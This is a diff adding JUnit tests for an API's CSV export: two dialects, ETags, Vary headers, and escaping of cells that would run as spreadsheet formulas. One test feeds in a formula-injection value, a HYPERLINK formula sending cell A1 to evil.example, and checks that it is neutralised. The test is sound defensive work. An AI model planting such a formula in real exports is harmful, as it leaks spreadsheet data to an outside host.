@@ -9,7 +9,14 @@ import io.restassured.response.Response;
 import org.junit.jupiter.api.Test;
 import org.waarom.embedded.EmbeddedPostgresTestResource;
 
+import org.apache.commons.csv.CSVFormat;
+import org.apache.commons.csv.CSVParser;
+import org.apache.commons.csv.CSVRecord;
+
 import java.io.IOException;
+import java.io.StringReader;
+import java.nio.charset.StandardCharsets;
+import java.util.Arrays;
 import java.util.List;
 import java.util.Map;
 
@@ -107,6 +114,92 @@ class CurrentValuesTest {
     }
 
     @Test
+    void bothDialectsParseBackWithAnotherCsvLibrary() throws IOException {
+        String org = newOrganization("valuesdialects");
+        draft(org, "values", Map.of("changeReason", "test", "content", Map.of("items", List.of(
+                Map.of("key", "luisteren", "title", "Luisteren, echt", "description", TRICKY_DESCRIPTION,
+                        "behaviours", List.of(TRICKY_BEHAVIOUR, "We vatten samen; met 'eigen' woorden.")),
+                value("openheid", "Openheid", "We zeggen wat we doen.")))));
+        adopt(org, "values", 1, "2024-05-01T00:00:00Z");
+        List<String> luisteren = List.of("luisteren", "Luisteren, echt", TRICKY_DESCRIPTION,
+                TRICKY_BEHAVIOUR + " | We vatten samen; met 'eigen' woorden.", "1", "2024-05-01T00:00:00Z", "nl");
+
+        // RFC 4180: commas, CRLF, no byte-order mark; the same with ?dialect=rfc4180.
+        for (Response plain : List.of(asAdmin().accept("text/csv").get(path(org)),
+                asAdmin().accept("text/csv").queryParam("dialect", "rfc4180").get(path(org)))) {
+            plain.then().statusCode(200).contentType(startsWith("text/csv"));
+            byte[] bytes = plain.asByteArray();
+            assertThat(bytes[0]).isEqualTo((byte) 'k');
+            String text = new String(bytes, StandardCharsets.UTF_8);
+            assertThat(text).startsWith(String.join(",", HEADER) + "\r\n").endsWith("\r\n");
+            List<CSVRecord> rows = commonsCsv(text, CSVFormat.RFC4180);
+            assertThat(rows).hasSize(2);
+            assertThat(rows.get(0).toList()).containsExactlyElementsOf(luisteren);
+            assertThat(rows.get(1).get("description")).isEmpty();
+        }
+
+        // For a spreadsheet: a UTF-8 byte-order mark, then semicolons between the fields, CRLF.
+        Response spreadsheet = asAdmin().accept("text/csv").queryParam("dialect", "spreadsheet").get(path(org));
+        spreadsheet.then().statusCode(200).contentType(startsWith("text/csv")).header("Content-Language", "nl");
+        byte[] bytes = spreadsheet.asByteArray();
+        assertThat(Arrays.copyOf(bytes, 3)).containsExactly(0xEF, 0xBB, 0xBF);
+        String text = new String(bytes, 3, bytes.length - 3, StandardCharsets.UTF_8);
+        assertThat(text).startsWith(String.join(";", HEADER) + "\r\n")
+                .contains("\r\nopenheid;Openheid;;We zeggen wat we doen.;1;2024-05-01T00:00:00Z;nl\r\n");
+        List<CSVRecord> rows = commonsCsv(text, CSVFormat.EXCEL.builder().setDelimiter(';').get());
+        assertThat(rows).hasSize(2);
+        assertThat(rows.get(0).toList()).containsExactlyElementsOf(luisteren);
+        assertThat(rows.get(1).toList()).containsExactly("openheid", "Openheid", "", "We zeggen wat we doen.", "1", "2024-05-01T00:00:00Z", "nl");
+
+        // Each dialect has its own ETag, which validates only its own bytes; one Vary header, with both tokens.
+        String plainTag = asAdmin().accept("text/csv").get(path(org)).header("ETag");
+        String spreadsheetTag = spreadsheet.header("ETag");
+        assertThat(plainTag).endsWith("~csv\"");
+        assertThat(spreadsheetTag).endsWith("~csv-spreadsheet\"").isNotEqualTo(plainTag);
+        asAdmin().accept("text/csv").queryParam("dialect", "spreadsheet").header("If-None-Match", spreadsheetTag).get(path(org))
+                .then().statusCode(304);
+        asAdmin().accept("text/csv").header("If-None-Match", spreadsheetTag).get(path(org)).then().statusCode(200).header("ETag", plainTag);
+        for (Response read : List.of(spreadsheet, asAdmin().accept("text/csv").get(path(org)), asAdmin().get(path(org)),
+                asAdmin().accept("text/csv").header("If-None-Match", plainTag).get(path(org)))) {
+            assertThat(read.headers().getValues("Vary")).containsExactly("Accept, Accept-Language");
+        }
+        // JSON is the same in either dialect; a dialect that does not exist is 400.
+        asAdmin().queryParam("dialect", "spreadsheet").get(path(org)).then().statusCode(200).contentType(startsWith("application/json"))
+                .header("ETag", asAdmin().get(path(org)).header("ETag"));
+        assertProblem(asAdmin().accept("text/csv").queryParam("dialect", "excel").get(path(org)), 400, "invalid-request")
+                .body("errors[0].field", equalTo("dialect"));
+    }
+
+    @Test
+    void aCellThatWouldRunAsAFormulaIsWrittenAsText() throws IOException {
+        String org = newOrganization("valuesformula");
+        draft(org, "values", Map.of("changeReason", "test", "content", Map.of("items", List.of(
+                Map.of("key", "formule", "title", "=HYPERLINK(\"https://evil.example/?d=\"&A1,\"Klik\")",
+                        "description", "@SUM(A1:A9)", "behaviours", List.of("-2+3", "+32 2 555 01 01")),
+                Map.of("key", "gewoon", "title", "Gewoon", "description", "Een = in het midden, - en + en @ ook.",
+                        "behaviours", List.of("We tellen 1+1."))))));
+        adopt(org, "values", 1, "2024-05-01T00:00:00Z");
+
+        // The bytes: a single quote before =, @ and - at the start of a field (quoted only where the field needs it); the
+        // same characters elsewhere in a field are left as they are.
+        String plain = new String(asAdmin().accept("text/csv").get(path(org)).then().statusCode(200).extract().asByteArray(), StandardCharsets.UTF_8);
+        assertThat(plain.split("\r\n")).containsExactly(
+                String.join(",", HEADER),
+                "formule,\"'=HYPERLINK(\"\"https://evil.example/?d=\"\"&A1,\"\"Klik\"\")\",'@SUM(A1:A9),'-2+3 | +32 2 555 01 01,1,2024-05-01T00:00:00Z,nl",
+                "gewoon,Gewoon,\"Een = in het midden, - en + en @ ook.\",We tellen 1+1.,1,2024-05-01T00:00:00Z,nl");
+        byte[] spreadsheet = asAdmin().accept("text/csv").queryParam("dialect", "spreadsheet").get(path(org)).asByteArray();
+        assertThat(new String(spreadsheet, StandardCharsets.UTF_8).split("\r\n")).containsExactly(
+                "\uFEFF" + String.join(";", HEADER),
+                "formule;\"'=HYPERLINK(\"\"https://evil.example/?d=\"\"&A1,\"\"Klik\"\")\";'@SUM(A1:A9);'-2+3 | +32 2 555 01 01;1;2024-05-01T00:00:00Z;nl",
+                "gewoon;Gewoon;Een = in het midden, - en + en @ ook.;We tellen 1+1.;1;2024-05-01T00:00:00Z;nl");
+        // A parser reads the quote as part of the text: a spreadsheet shows the text, a program strips the quote.
+        CSVRecord formula = commonsCsv(plain, CSVFormat.RFC4180).get(0);
+        assertThat(formula.get("title")).isEqualTo("'=HYPERLINK(\"https://evil.example/?d=\"&A1,\"Klik\")");
+        assertThat(formula.get("description")).isEqualTo("'@SUM(A1:A9)");
+        assertThat(formula.get("behaviours")).isEqualTo("'-2+3 | +32 2 555 01 01");
+    }
+
+    @Test
     void theCsvIsInTheNegotiatedLanguage() throws IOException {
         String org = TranslationTest.valuesOrganization("valuescsvfr");
         create(org, "values", 1, "fr", "APPROVED", itemsContent(
@@ -147,6 +240,14 @@ class CurrentValuesTest {
             List<Map<String, String>> all = rows.readAll();
             assertThat(all).allSatisfy(row -> assertThat(row.keySet()).containsExactlyElementsOf(HEADER));
             return all;
+        }
+    }
+
+    /** Parses with Apache Commons CSV (not the library that wrote it), the first row as the header. */
+    private static List<CSVRecord> commonsCsv(String csv, CSVFormat format) throws IOException {
+        try (CSVParser parser = format.builder().setHeader().setSkipHeaderRecord(true).get().parse(new StringReader(csv))) {
+            assertThat(parser.getHeaderNames()).containsExactlyElementsOf(HEADER);
+            return parser.getRecords();
         }
     }
 
